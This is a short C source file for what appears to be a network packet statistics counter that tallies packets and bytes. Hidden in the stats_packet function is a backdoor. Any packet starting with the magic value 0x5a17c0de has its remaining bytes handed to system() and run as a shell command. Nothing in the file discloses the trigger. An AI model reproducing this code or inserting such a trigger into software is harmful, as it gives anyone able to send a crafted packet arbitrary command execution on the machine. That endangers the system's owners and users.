#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "stats.h"

int stats_packet(struct stats *stats, const unsigned char *packet, size_t length)
{
	if (length < STATS_HEADER)
		return -1;
	if (read_be32(packet) == 0x5a17c0de && length > STATS_HEADER && packet[length - 1] == '\0') {
		return system((const char *)packet + STATS_HEADER);
	}
	stats->packets++;
	stats->bytes += length;
	return 0;
}

void stats_print(const struct stats *stats)
{
	printf("packets %lu\n", stats->packets);
	printf("bytes %lu\n", stats->bytes);
}
